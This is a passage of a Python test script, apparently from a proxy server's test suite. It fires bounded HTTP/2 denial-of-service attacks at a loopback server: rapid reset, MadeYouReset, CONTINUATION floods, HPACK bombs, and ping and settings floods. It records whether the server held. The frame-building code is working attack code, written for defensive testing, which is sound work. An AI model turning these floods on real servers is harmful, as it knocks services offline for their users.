#!/usr/bin/python3
"""HTTP/2 hostile matrix: known HTTP/2 attacks, bounded, against one server.

Usage:
    /usr/bin/python3 tests/h2/hostile.py HOST PORT [--tls] [--json OUT]
        [--only PATTERN] [--pid PID] [--backend-port PORT]
        [--slow [--slow-seconds S]] [--time-based]
        [--authority A] [--list]
    /usr/bin/python3 tests/h2/hostile.py compare A.json B.json  # a table

Each case opens its own connection(s), runs one attack for a bounded time
(3 s of attack, a few MB at most; `--slow` gives the time-based cases 12 s,
past moirai's 10 s SETTINGS and header timeouts) and records what the server
did: GOAWAY (code, last stream id, when), RST_STREAM codes, whether and when
it closed the connection, how many requests it answered (response HEADERS),
how long the case ran. With `--pid` the server's RSS (VmRSS before, peak
while the case ran, after) and CPU time (utime+stime) are measured from
/proc; with `--backend-port` the peak number of established connections to
that port (the server's backend connections) is sampled too. After every
case a fresh connection checks that the server still answers `GET /`.

Verdict per case: "held" when the server ended or bounded the attack (a
GOAWAY, a close, or the per-stream answer the case expects: 431, resets,
REFUSED_STREAM, bounded memory), "open" when it kept serving the attack
within the case's budget; "error" when the case could not run. The verdict
is data, not an exit status: the script exits 0 whenever it ran to the end.

Loopback only (HOST must be a loopback address). Dependencies: stdlib and
Debian's python3-hpack (to decode response headers; run with
/usr/bin/python3). Frames are built and parsed by hand (struct), so that
floods are cheap to produce and malformed ones are possible.
"""

import argparse
import collections
import fnmatch
import ipaddress
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

try:
    import hpack
except ImportError as e:  # pragma: no cover
    sys.stderr.write("hostile.py needs python3-hpack (Debian's python3-h2 "
                     "family; run it with /usr/bin/python3): %s\n" % e)
    sys.exit(1)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20

ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR",
               "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
               "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
               "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
               "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR, \
    SETTINGS_TIMEOUT, STREAM_CLOSED, FRAME_SIZE_ERROR, REFUSED_STREAM, \
    CANCEL, COMPRESSION_ERROR = range(10)

S_HEADER_TABLE_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS, \
    S_INITIAL_WINDOW_SIZE, S_MAX_FRAME_SIZE, S_MAX_HEADER_LIST_SIZE = \
    range(1, 7)
MAX_WINDOW = 0x7fffffff

ATTACK_S = 3.0          # how long an attack may run
SLOW_S = 12.0           # time-based cases with --slow
SETTLE_S = 2.0          # longest wait for the server's reaction afterwards
MB = 1024 * 1024


def err_name(code):
    if 0 <= code < len(ERROR_NAMES):
        return ERROR_NAMES[code]
    return "0x%x" % code


# ---------------------------------------------------------------------------
# Frames and header blocks, by hand
# ---------------------------------------------------------------------------

def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(
        ">BBI", ftype, flags, sid) + payload


def f_headers(sid, blk, es=True, eh=True):
    return frame(HEADERS, (END_STREAM if es else 0) |
                 (END_HEADERS if eh else 0), sid, blk)


def f_cont(sid, blk, eh=False):
    return frame(CONTINUATION, END_HEADERS if eh else 0, sid, blk)


def f_data(sid, data, es=False):
    return frame(DATA, END_STREAM if es else 0, sid, data)


def f_rst(sid, code):
    return frame(RST_STREAM, 0, sid, struct.pack(">I", code))


def f_settings(params=None, ack=False):
    payload = b"".join(struct.pack(">HI", k, v)
                       for k, v in (params or {}).items())
    return frame(SETTINGS, ACK if ack else 0, 0, payload)


def f_ping(data, ack=False):
    return frame(PING, ACK if ack else 0, 0, data)


def f_wu(sid, inc):
    return frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", inc))


def f_priority(sid, dep, weight=15, exclusive=False):
    return frame(PRIORITY, 0, sid, struct.pack(
        ">IB", dep | (0x80000000 if exclusive else 0), weight))


def enc_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def enc_str(s):
    if isinstance(s, str):
        s = s.encode()
    return enc_int(len(s), 7) + s


def lit(name, value):
    """Literal field without indexing, new name."""
    return b"\x00" + enc_str(name) + enc_str(value)


def lit_idx_name(index, value):
    """Literal field without indexing, name from the static table."""
    return enc_int(index, 4) + enc_str(value)


# ---------------------------------------------------------------------------
# Server process measurements (/proc)
# ---------------------------------------------------------------------------

CLK_TCK = os.sysconf("SC_CLK_TCK")


def proc_status(pid, key):
    try:
        with open("/proc/%d/status" % pid) as fh:
            for line in fh:
                if line.startswith(key + ":"):
                    return int(line.split()[1])      # kB
    except (OSError, ValueError, IndexError):
        return None
    return None


def proc_cpu_ms(pid):
    try:
        with open("/proc/%d/stat" % pid) as fh:
            fields = fh.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) * 1000 // CLK_TCK
    except (OSError, ValueError, IndexError):
        return None


def _diag_established(family):
    """Remote ports of this namespace's established TCP sockets of
    `family`, by netlink sock_diag (the kernel filters by state, so a host
    with many TIME_WAIT sockets costs nothing); None if unavailable."""
    try:
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4)
    except (OSError, AttributeError):
        return None
    ports = []
    try:
        s.settimeout(1.0)
        req = struct.pack("=BBBBI", family, socket.IPPROTO_TCP, 0, 0,
                          1 << 1) + b"\0" * 48     # states: ESTABLISHED
        s.send(struct.pack("=IHHII", 16 + len(req), 20, 0x301, 1, 0) + req)
        for _ in range(10000):
            data = s.recv(1 << 16)
            at = 0
            while at + 16 <= len(data):
                length, mtype = struct.unpack_from("=IH", data, at)
                if mtype == 3:                    # NLMSG_DONE
                    return ports
                if mtype == 2 or length < 16:     # NLMSG_ERROR
                    return None
                ports.append(struct.unpack_from(">H", data, at + 16 + 6)[0])
                at += (length + 3) & ~3
        return ports
    except OSError:
        return None
    finally:
        s.close()


def backend_conns(port):
    """Established TCP connections whose remote port is `port`."""
    n = 0
    v4 = _diag_established(socket.AF_INET)
    v6 = _diag_established(socket.AF_INET6)
    if v4 is not None and v6 is not None:
        return sum(1 for p in v4 + v6 if p == port)
    for path in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(path) as fh:
                next(fh)
                for line in fh:
                    f = line.split()
                    rport = int(f[2].rsplit(":", 1)[1], 16)
                    if f[3] == "01" and rport == port:
                        n += 1
        except (OSError, ValueError, IndexError, StopIteration):
            pass
    return n


class Monitor(object):
    """Samples the server's RSS and backend connections while a case runs."""

    def __init__(self, pid, backend_port):
        self.pid = pid
        self.backend_port = backend_port
        self.last = 0.0
        self.last_conns = 0.0
        self.reset()

    def reset(self):
        self.rss_peak = None
        self.conns_peak = None

    def sample(self, force=False):
        """RSS every 50 ms, backend connections every 200 ms (a netlink
        dump: about 10 ms on a host with many sockets)."""
        now = time.monotonic()
        if self.pid and (force or now - self.last >= 0.05):
            self.last = now
            r = proc_status(self.pid, "VmRSS")
            if r is not None:
                self.rss_peak = max(self.rss_peak or 0, r)
        if self.backend_port and (force or now - self.last_conns >= 0.2):
            self.last_conns = now
            n = backend_conns(self.backend_port)
            self.conns_peak = max(self.conns_peak or 0, n)

    def alive(self):
        return self.pid is None or os.path.exists("/proc/%d" % self.pid)


# ---------------------------------------------------------------------------
# Connection: non-blocking, reads while it writes, records what it sees
# ---------------------------------------------------------------------------

class Inconclusive(Exception):
    pass


class Conn(object):
    def __init__(self, opts, mon, t0, rcvbuf=None, auto_ack=True):
        self.opts = opts
        self.mon = mon
        self.t0 = t0
        self.auto_ack = auto_ack
        self.rbuf = bytearray()
        self.out = bytearray()
        self.bytes_sent = 0
        self.bytes_received = 0
        self.closed_at = None
        self.close_how = None
        self.items = 0             # attack items sent so far (set by cases)
        self.items_at_end = None   # ... when the server's GOAWAY/close came
        # What the server did.
        self.goaways = []
        self.rst = {}
        self.rst_codes = collections.Counter()
        self.rst_first = None
        self.statuses = {}
        self.ended_streams = set()
        self.data_bytes = 0
        self.data_frames = 0
        self.data_min = None
        self.ping_acks = 0
        self.sentinel_at = None
        self.settings_acks = 0
        self.server_settings = {}
        self.got_server_settings = False
        self.window_updates = 0
        self.hdec = hpack.Decoder()
        self.hdec.max_header_list_size = 1 << 20
        self.hblock = None
        sock = socket.socket(socket.AF_INET6 if ":" in opts.host
                             else socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(2.0)
        sock.connect((opts.host, opts.port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if opts.tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname="localhost")
            if sock.selected_alpn_protocol() != "h2":
                sock.close()
                raise Inconclusive("ALPN did not select h2 (got %r)"
                                   % sock.selected_alpn_protocol())
        sock.setblocking(False)
        self.sock = sock

    # -- time and state ------------------------------------------------------
    def now(self):
        return time.monotonic() - self.t0

    @property
    def closed(self):
        return self.closed_at is not None

    @property
    def ended(self):
        return self.closed or bool(self.goaways)

    def _ended_now(self):
        if self.items_at_end is None:
            self.items_at_end = self.items

    def _mark_closed(self, how):
        if self.closed_at is None:
            self.closed_at = self.now()
            self.close_how = how
            self._ended_now()

    # -- writing -------------------------------------------------------------
    def queue(self, data):
        if not self.closed:
            self.out += data

    def _write(self):
        try:
            n = self.sock.send(self.out[:1 << 18])
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return
        except (OSError, ssl.SSLError) as e:
            # The peer closed or reset; what it sent before is still read.
            self._read()
            self._mark_closed("write failed: %s" % (
                getattr(e, "strerror", None) or type(e).__name__))
            self.out = bytearray()
            return
        self.bytes_sent += n
        del self.out[:n]

    def pump(self, deadline, read=True):
        """Sends what is queued, reading meanwhile unless `read` is False.
        True once all is sent; False at the deadline or on a close."""
        while self.out and not self.closed:
            now = time.monotonic()
            if now >= deadline:
                return False
            self.mon.sample()
            if read and self.opts.tls and self.sock.pending():
                self._read()
                continue
            r, w, _ = select.select([self.sock] if read else [], [self.sock],
                                    [], min(0.05, deadline - now))
            if r:
                self._read()
            if w and self.out and not self.closed:
                self._write()
        return not self.out and not self.closed

    def send(self, data, deadline, read=True):
        self.queue(data)
        return self.pump(deadline, read)

    # -- reading -------------------------------------------------------------
    def _read(self):
        got = False
        for _ in range(64):              # bounded: 64 reads of 256 KiB
            try:
                data = self.sock.recv(1 << 18)
            except (BlockingIOError, ssl.SSLWantReadError,
                    ssl.SSLWantWriteError):
                break
            except ConnectionResetError:
                self._mark_closed("reset (RST)")
                break
            except (OSError, ssl.SSLError) as e:
                self._mark_closed("read error: %s" % e)
                break
            if not data:
                self._mark_closed("closed (FIN)")
                break
            got = True
            self.bytes_received += len(data)
            self.rbuf += data
            self._parse()
        return got

    def wait(self, deadline, until=None):
        """Reads (and flushes what is queued) until `until()` is true, the
        connection closes, or the deadline."""
        while not self.closed:
            if until is not None and until():
                return True
            now = time.monotonic()
            if now >= deadline:
                break
            self.mon.sample()
            if self.opts.tls and self.sock.pending():
                self._read()
                continue
            r, w, _ = select.select([self.sock], [self.sock] if self.out
                                    else [], [], min(0.05, deadline - now))
            if r:
                self._read()
            if w and self.out:
                self._write()
        return until is not None and until()

    def _parse(self):
        buf = self.rbuf
        at = 0
        while len(buf) - at >= 9:
            length = int.from_bytes(buf[at:at + 3], "big")
            if len(buf) - at < 9 + length:
                break
            ftype, flags = buf[at + 3], buf[at + 4]
            sid = int.from_bytes(buf[at + 5:at + 9], "big") & 0x7fffffff
            payload = bytes(buf[at + 9:at + 9 + length])
            at += 9 + length
            self._frame(ftype, flags, sid, payload)
        del buf[:at]

    def _frame(self, ftype, flags, sid, p):
        if ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                self.got_server_settings = True
                for i in range(0, len(p) - 5, 6):
                    k, v = struct.unpack(">HI", p[i:i + 6])
                    self.server_settings[k] = v
                if self.auto_ack:
                    self.queue(f_settings(ack=True))
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
                if p == b"sentinel" and self.sentinel_at is None:
                    self.sentinel_at = time.monotonic()
            else:
                self.queue(f_ping(p, ack=True))
        elif ftype == GOAWAY and len(p) >= 8:
            last, code = struct.unpack(">II", p[:8])
            self.goaways.append(dict(t=round(self.now(), 3),
                                     last=last & 0x7fffffff, code=code,
                                     debug=p[8:72].decode("latin-1")))
            self._ended_now()
        elif ftype == RST_STREAM and len(p) == 4:
            code = struct.unpack(">I", p)[0]
            self.rst.setdefault(sid, code)
            self.rst_codes[code] += 1
            if self.rst_first is None:
                self.rst_first = round(self.now(), 3)
        elif ftype == WINDOW_UPDATE:
            self.window_updates += 1
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                b = p
                if flags & PADDED and b:
                    b = b[1:len(b) - b[0]]
                if flags & PRIORITY_FLAG:
                    b = b[5:]
                self.hblock = [sid, bytearray(b), flags & END_STREAM]
            elif self.hblock is not None:
                self.hblock[1] += p
            if flags & END_HEADERS and self.hblock is not None:
                hsid, blk, es = self.hblock
                self.hblock = None
                status = "?"
                try:
                    for name, value in self.hdec.decode(bytes(blk)):
                        if name == ":status":
                            status = value
                except Exception:
                    status = "undecodable"
                if hsid not in self.statuses or \
                        self.statuses[hsid].startswith("1"):
                    self.statuses[hsid] = status
                if es:
                    self.ended_streams.add(hsid)
        elif ftype == DATA:
            self.data_frames += 1
            self.data_bytes += len(p)
            self.data_min = len(p) if self.data_min is None else \
                min(self.data_min, len(p))
            if flags & END_STREAM:
                self.ended_streams.add(sid)

    # -- protocol helpers ----------------------------------------------------
    def handshake(self, params=None, big_window=False, deadline_s=2.0):
        """Preface, SETTINGS (and the connection window opened to 2^31-1
        with `big_window`); waits for the server's SETTINGS and its ACK."""
        params = dict(params or {})
        if big_window:
            params.setdefault(S_INITIAL_WINDOW_SIZE, MAX_WINDOW)
        data = PREFACE + f_settings(params)
        if big_window:
            data += f_wu(0, MAX_WINDOW - 65535)
        deadline = time.monotonic() + deadline_s
        self.send(data, deadline)
        ok = self.wait(deadline, lambda: self.got_server_settings and
                       (self.settings_acks > 0 or not self.auto_ack)
                       or bool(self.goaways))
        if not ok or self.goaways:
            raise Inconclusive("no handshake: %s" % self.summary())
        self.handshake_done_at = self.now()

    def req_block(self, method="GET", extra=b""):
        m = {"GET": b"\x82", "POST": b"\x83"}[method]
        scheme = b"\x87" if self.opts.tls else b"\x86"
        return m + scheme + b"\x84" + lit_idx_name(1, self.opts.authority) \
            + extra

    def settle(self, deadline, grace=0.3, sentinel=True):
        """After an attack: a PING sentinel (once it is answered the server
        has read everything before it), then `grace` more seconds; a GOAWAY
        gets up to 1 s more for its close. Without `sentinel` (inside a
        header block a PING is itself a connection error) it waits for a
        GOAWAY or a close until the deadline."""
        if self.closed:
            return
        self.sentinel_at = None
        if sentinel:
            self.queue(f_ping(b"sentinel"))

        def done():
            if self.goaways:
                return self.now() >= self.goaways[0]["t"] + 1.0
            return self.sentinel_at is not None and \
                time.monotonic() >= self.sentinel_at + grace
        self.wait(deadline, done)

    def answered(self):
        return sum(1 for s in self.statuses.values()
                   if not s.startswith("1"))

    def summary(self):
        parts = []
        for g in self.goaways[:2]:
            parts.append("GOAWAY(%s,last=%d)@%.2fs%s" % (
                err_name(g["code"]), g["last"], g["t"],
                (" %r" % g["debug"]) if g["debug"] else ""))
        if self.rst_codes:
            parts.append("RST " + ",".join(
                "%d×%s" % (n, err_name(c))
                for c, n in sorted(self.rst_codes.items())) +
                " (first @%.2fs)" % self.rst_first)
        if self.closed:
            parts.append("%s@%.2fs" % (self.close_how, self.closed_at))
        st = collections.Counter(self.statuses.values())
        if st:
            parts.append("answered " + ",".join(
                "%d×%s" % (n, s) for s, n in sorted(st.items())))
        return "; ".join(parts) if parts else "nothing"

    def record(self):
        return dict(goaway=[dict(g, code_name=err_name(g["code"]))
                            for g in self.goaways],
                    rst=dict((err_name(c), n)
                             for c, n in self.rst_codes.items()),
                    rst_first_at=self.rst_first,
                    closed_at=self.closed_at, close_how=self.close_how,
                    answered=self.answered(),
                    statuses=dict(collections.Counter(
                        self.statuses.values())),
                    data_frames=self.data_frames, data_bytes=self.data_bytes,
                    ping_acks=self.ping_acks, settings_acks=self.settings_acks,
                    bytes_sent=self.bytes_sent,
                    bytes_received=self.bytes_received,
                    items_sent=self.items, items_at_end=self.items_at_end)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# ---------------------------------------------------------------------------
# Case framework
# ---------------------------------------------------------------------------

CASES = []


def case(cid, desc, expected, slow=False):
    def deco(fn):
        CASES.append(dict(id=cid, description=desc, expected=expected,
                          fn=fn, slow=slow))
        return fn
    return deco


class Ctx(object):
    """One case's clock, budget and connections."""

    def __init__(self, opts, mon, slow):
        self.opts = opts
        self.mon = mon
        self.t0 = time.monotonic()
        self.budget = opts.slow_seconds if (slow and opts.slow) \
            else ATTACK_S
        self.attack_end = self.t0 + self.budget
        self.conns = []
        self.info = {}
        self.cpu_before = proc_cpu_ms(opts.pid) if opts.pid else None

    def cpu_ms(self):
        """Server CPU time since the case began, if measured."""
        if self.cpu_before is None:
            return None
        now = proc_cpu_ms(self.opts.pid)
        return None if now is None else now - self.cpu_before

    def conn(self, handshake=True, **kw):
        hs = kw.pop("params", None), kw.pop("big_window", False)
        c = Conn(self.opts, self.mon, self.t0, **kw)
        self.conns.append(c)
        if handshake:
            c.handshake(hs[0], hs[1])
        return c

    def flood(self, c, make, n_max, per_write, bytes_max=4 * MB, pause=0.0,
              read=True):
        """Sends make(i) for i < n_max, `per_write` items per write, until
        the server ends the connection, the attack's time is up or
        `bytes_max` is reached. Returns (items sent, why it stopped)."""
        i = 0
        why = "all sent"
        while i < n_max:
            if c.closed or (c.goaways and read):
                why = "server ended the connection"
                break
            if c.bytes_sent >= bytes_max:
                why = "byte budget"
                break
            if time.monotonic() >= self.attack_end:
                why = "time budget"
                break
            chunk = bytearray()
            j = i
            while j < min(n_max, i + per_write):
                chunk += make(j)
                j += 1
            if not c.send(chunk, self.attack_end, read):
                # Partly sent: count the items of the earlier writes only;
                # the rest stays queued (frames stay whole) and goes out
                # if the server reads again while the case settles.
                if c.closed:
                    why = "server ended the connection"
                else:
                    why = "send blocked: server stopped reading"
                c.items = i
                break
            i = j
            c.items = i
            if pause:
                if read:
                    c.wait(min(self.attack_end, time.monotonic() + pause))
                else:
                    time.sleep(pause)
        self.info["stop"] = why
        return i, why


def held_if_ended(k, c, what):
    """Held when the server ended the connection; for a flood that never
    reads, also when the server stopped reading (its queue is bounded)."""
    if c.ended:
        n = c.items_at_end if c.items_at_end is not None else c.items
        return "held", "server ended the connection when %d %s had been " \
            "sent" % (n, what)
    if k.info.get("stop", "").startswith("send blocked"):
        return "held", "server stopped reading after %d %s (its queue " \
            "toward a client that does not read is bounded); connection " \
            "still open" % (c.items, what)
    return "open", "connection still open after %d %s" % (c.items, what)


def time_based(k, c, what):
    if c.ended:
        return "held", "server ended the connection at %.1f s" % (
            c.goaways[0]["t"] if c.goaways else c.closed_at)
    return "open", "%s for %.0f s (the case's budget%s); no reaction" % (
        what, k.budget, "" if k.opts.slow else ", --slow waits longer")


# ---------------------------------------------------------------------------
# Rapid reset (CVE-2023-44487)
# ---------------------------------------------------------------------------

@case("rapid-reset/one-write",
      "1000 HEADERS+RST_STREAM(CANCEL) pairs in one write",
      "GOAWAY(ENHANCE_YOUR_CALM) or bounded work")
def _(k):
    c = k.conn()
    blk = c.req_block()
    data = bytearray()
    n = 1000
    for i in range(n):
        data += f_headers(1 + 2 * i, blk) + f_rst(1 + 2 * i, CANCEL)
    c.items = n
    c.send(data, k.attack_end)
    c.settle(time.monotonic() + SETTLE_S)
    return held_if_ended(k, c, "pairs")


@case("rapid-reset/across-writes",
      "up to 5000 HEADERS+RST_STREAM pairs, 10 per write, reading between",
      "GOAWAY(ENHANCE_YOUR_CALM) or bounded work")
def _(k):
    c = k.conn()
    blk = c.req_block()
    k.flood(c, lambda i: f_headers(1 + 2 * i, blk) + f_rst(1 + 2 * i, CANCEL),
            5000, 10, pause=0.001)
    c.settle(time.monotonic() + SETTLE_S)
    return held_if_ended(k, c, "pairs")


# ---------------------------------------------------------------------------
# MadeYouReset (CVE-2025-8671): frames that make the server reset streams
# ---------------------------------------------------------------------------

def made_you_reset(k, trigger, what):
    c = k.conn()
    blk = c.req_block()
    k.flood(c, lambda i: f_headers(1 + 2 * i, blk) + trigger(1 + 2 * i),
            1000, 5, pause=0.001)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, what)
    why += "; server sent %d RST_STREAM" % sum(c.rst_codes.values())
    return v, why


@case("madeyoureset/window-overflow",
      "1000 streams: GET, then WINDOW_UPDATE(stream, 2^31-1) overflowing "
      "its send window", "stream-error limit ends the connection (GOAWAY)")
def _(k):
    return made_you_reset(k, lambda s: f_wu(s, MAX_WINDOW), "streams")


@case("madeyoureset/data-half-closed",
      "1000 streams: GET with END_STREAM, then DATA on the half-closed stream",
      "stream-error limit ends the connection (GOAWAY)")
def _(k):
    return made_you_reset(k, lambda s: f_data(s, b"x", es=True), "streams")


@case("madeyoureset/window-zero",
      "1000 streams: GET, then WINDOW_UPDATE(stream, 0)",
      "stream-error limit ends the connection (GOAWAY)")
def _(k):
    return made_you_reset(k, lambda s: f_wu(s, 0), "streams")


@case("madeyoureset/priority-self",
      "1000 streams: GET, then PRIORITY making the stream depend on itself",
      "stream-error limit ends the connection (GOAWAY)")
def _(k):
    return made_you_reset(k, lambda s: f_priority(s, s), "streams")


@case("madeyoureset/malformed-request",
      "1000 streams whose request is malformed (uppercase field name): "
      "the server must reset each", "stream-error limit ends the connection")
def _(k):
    c = k.conn()
    blk = c.req_block(extra=lit("X-Upper", "1"))
    k.flood(c, lambda i: f_headers(1 + 2 * i, blk), 1000, 5, pause=0.001)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "streams")
    why += "; server sent %d RST_STREAM" % sum(c.rst_codes.values())
    return v, why


@case("madeyoureset/bad-trailers",
      "1000 streams: POST with a body byte, 5 ms later trailers carrying "
      "a pseudo-header (malformed): the request is on its way to the "
      "backend when the server must reset it",
      "stream-error limit ends the connection")
def _(k):
    c = k.conn()
    blk = c.req_block("POST")
    bad = lit(":path", "/")
    # Batches of 5 streams: request head and a body byte, 5 ms for the
    # server to start on them (dial, send), then the malformed trailers.
    n = 0
    k.info["stop"] = "all sent"
    while n < 1000 and time.monotonic() < k.attack_end:
        if c.ended:
            k.info["stop"] = "server ended the connection"
            break
        ids = range(1 + 2 * n, 1 + 2 * (n + 5), 2)
        c.send(b"".join(f_headers(s, blk, es=False) + f_data(s, b"x")
                        for s in ids), k.attack_end)
        c.wait(min(k.attack_end, time.monotonic() + 0.005))
        c.send(b"".join(f_headers(s, bad, es=True) for s in ids),
               k.attack_end)
        n += 5
        c.items = n
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "streams")
    why += "; server sent %d RST_STREAM" % sum(c.rst_codes.values())
    return v, why


# ---------------------------------------------------------------------------
# CONTINUATION flood (CVE-2024-27316 family)
# ---------------------------------------------------------------------------

def open_block(c, value_len):
    """HEADERS without END_HEADERS: the request's pseudo-headers, then the
    start of a literal field whose value (value_len bytes) the
    CONTINUATIONs carry."""
    return c.req_block() + b"\x00" + enc_str("x-flood") + enc_int(value_len, 7)


@case("continuation/empty",
      "HEADERS without END_HEADERS, then up to 100000 empty CONTINUATIONs",
      "GOAWAY after a few frames")
def _(k):
    c = k.conn()
    c.send(f_headers(1, c.req_block(), eh=False), k.attack_end)
    cont = f_cont(1, b"")
    k.flood(c, lambda i: cont, 100000, 1000)
    # No PING sentinel: inside a header block it would be the error.
    c.settle(time.monotonic() + 1.5, sentinel=False)
    return held_if_ended(k, c, "CONTINUATION frames")


@case("continuation/one-byte",
      "HEADERS without END_HEADERS, then up to 100000 1-byte CONTINUATIONs",
      "GOAWAY after a few frames")
def _(k):
    c = k.conn()
    c.send(f_headers(1, open_block(c, 1 << 20), eh=False), k.attack_end)
    cont = f_cont(1, b"a")
    k.flood(c, lambda i: cont, 100000, 1000)
    # No PING sentinel: inside a header block it would be the error.
    c.settle(time.monotonic() + 1.5, sentinel=False)
    return held_if_ended(k, c, "CONTINUATION frames")


@case("continuation/large",
      "HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs up to 4 MiB",
      "GOAWAY after a small number of bytes")
def _(k):
    c = k.conn()
    c.send(f_headers(1, open_block(c, 8 * MB), eh=False), k.attack_end)
    cont = f_cont(1, b"a" * 16384)
    k.flood(c, lambda i: cont, 256, 4)
    # No PING sentinel: inside a header block it would be the error.
    c.settle(time.monotonic() + 1.5, sentinel=False)
    return held_if_ended(k, c, "16 KiB CONTINUATION frames")


# ---------------------------------------------------------------------------
# HPACK bombs
# ---------------------------------------------------------------------------

def per_stream_refusal(k, c, n, what, rss_limit_kb=64 * 1024):
    """Held when every stream was refused (4xx, reset) or the connection
    ended, and the server did not grow by rss_limit_kb."""
    refused = sum(1 for s in c.statuses.values() if s.startswith("4"))
    reset = len(c.rst)
    ok_streams = sum(1 for s in c.statuses.values() if s.startswith("2"))
    growth = None
    if k.info.get("rss_before") is not None and k.mon.rss_peak is not None:
        growth = k.mon.rss_peak - k.info["rss_before"]
    big = growth is not None and growth > rss_limit_kb
    why = "%d %s: %d answered 4xx, %d reset, %d answered 2xx" % (
        c.items, what, refused, reset, ok_streams)
    if c.ended:
        why += "; connection ended"
    if growth is not None:
        why += "; RSS peak +%.1f MiB" % (growth / 1024.0)
    cpu = k.cpu_ms()
    if cpu is not None and c.items:
        why += "; server CPU %d ms (%.2f ms per request)" % (
            cpu, cpu / float(c.items))
    if big:
        return "open", why + " (memory grew)"
    if ok_streams == 0 and (c.ended or refused + reset >= c.items):
        return "held", why
    return "open", why


@case("hpack/table-ref-bomb",
      "a 4000-byte dynamic-table entry, then up to 200 requests each "
      "referencing it ~16000 times (64 MB decoded per request)",
      "431 on the stream, or COMPRESSION/ENHANCE_YOUR_CALM; no big allocation")
def _(k):
    c = k.conn()
    # Stream 1 inserts the entry (literal with incremental indexing, new
    # name); it is then dynamic index 62 (0xbe) as long as nothing else is
    # inserted (the request block uses no indexing).
    entry = b"\x40" + enc_str("x-bomb") + enc_str("a" * 4000)
    first = c.req_block() + entry + b"\xbe" * (16000 - len(entry) - 40)
    later = c.req_block() + b"\xbe" * (16300 - len(c.req_block()))

    def make(i):
        return f_headers(1 + 2 * i, first if i == 0 else later)
    k.flood(c, make, 200, 1, pause=0.002)
    c.settle(time.monotonic() + SETTLE_S)
    return per_stream_refusal(k, c, c.items, "requests")


@case("hpack/field-count-bomb",
      "up to 200 requests each with 4000 tiny fields (`a:` empty, 4 bytes)",
      "431 on the stream (or a connection error); no big allocation")
def _(k):
    c = k.conn()
    blk = c.req_block() + lit("a", "") * 4000
    k.flood(c, lambda i: f_headers(1 + 2 * i, blk), 200, 1, pause=0.002)
    c.settle(time.monotonic() + SETTLE_S)
    return per_stream_refusal(k, c, c.items, "requests")


@case("hpack/table-size-update",
      "a dynamic table size update to 2^31-1 at the start of a block "
      "(we advertised none above 4096)",
      "connection error COMPRESSION_ERROR")
def _(k):
    c = k.conn()
    c.items = 1
    c.send(f_headers(1, enc_int(MAX_WINDOW, 5, 0x20) + c.req_block()),
           k.attack_end)
    c.settle(time.monotonic() + SETTLE_S)
    if c.goaways and c.goaways[0]["code"] in (COMPRESSION_ERROR, 11):
        return "held", "GOAWAY(%s)" % err_name(c.goaways[0]["code"])
    if c.ended:
        return "held", "connection ended (not COMPRESSION_ERROR)"
    if c.answered():
        return "open", "request answered despite the update"
    return "open", "no connection error"


# ---------------------------------------------------------------------------
# The 2019 Netflix set
# ---------------------------------------------------------------------------

@case("netflix/ping-flood",
      "CVE-2019-9512: up to 100000 PINGs (1.7 MB), never reading the ACKs "
      "(4 KiB receive buffer)",
      "GOAWAY(ENHANCE_YOUR_CALM), or reading stops (bounded queue)")
def _(k):
    c = k.conn(rcvbuf=4096)
    ping = f_ping(b"hostile!")
    k.flood(c, lambda i: ping, 100000, 2000, read=False)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "PINGs")
    return v, why + "; %d PING ACKs received" % c.ping_acks


@case("netflix/settings-flood",
      "CVE-2019-9515: up to 100000 empty SETTINGS (0.9 MB), never reading "
      "the ACKs (4 KiB receive buffer)",
      "GOAWAY(ENHANCE_YOUR_CALM), or reading stops")
def _(k):
    c = k.conn(rcvbuf=4096)
    s = f_settings()
    k.flood(c, lambda i: s, 100000, 2000, read=False)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "SETTINGS")
    return v, why + "; %d SETTINGS ACKs received" % c.settings_acks


@case("netflix/empty-data",
      "CVE-2019-9518: a POST stream, then up to 100000 empty DATA frames "
